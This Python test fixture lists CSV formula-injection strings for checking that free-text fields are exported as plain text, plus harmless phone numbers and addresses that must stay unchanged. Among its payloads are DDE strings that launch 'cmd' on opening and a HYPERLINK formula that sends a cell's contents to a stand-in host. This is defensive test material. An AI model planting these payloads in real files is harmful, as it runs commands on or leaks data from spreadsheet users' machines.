"""Texts that spreadsheets took for formulas, or that filters against them broke. Put them into every free text field.

Sources: the luca incident of May 2021 and the front-end filter of that kind (a character class `[=+-@]` that is a
range, anchored to the start of the string); OWASP ASVS V1.2.10; CSV readers with another list separator.
"""

FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://192.0.2.1/?\"&A1,\"xem\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "  \t =1+1",
    "\"=1+1",
    "\",=1+1",
    "x;=1+1",
    "x,=1+1",
    "x\t=1+1",
    "x|=1+1",
    "x\n=1+1",
    "'=1+1",
    "＝1+1",
    "\x00=1+1",
    "\x0b=1+1",
    "#N/A",
    "#REF!",
    "DDE(\"cmd\";\"/C calc\";\"x\")",
)  # fmt: skip
"""Strings that must come out of a file as text."""

HARMLESS = ("0912345678", "+84912345678", "12/3 Hùng Vương", "068123456789", "1-2-3", "Chợ Gia Nghĩa", "-5")
"""Strings that must come out unchanged; a phone number keeps its zero."""
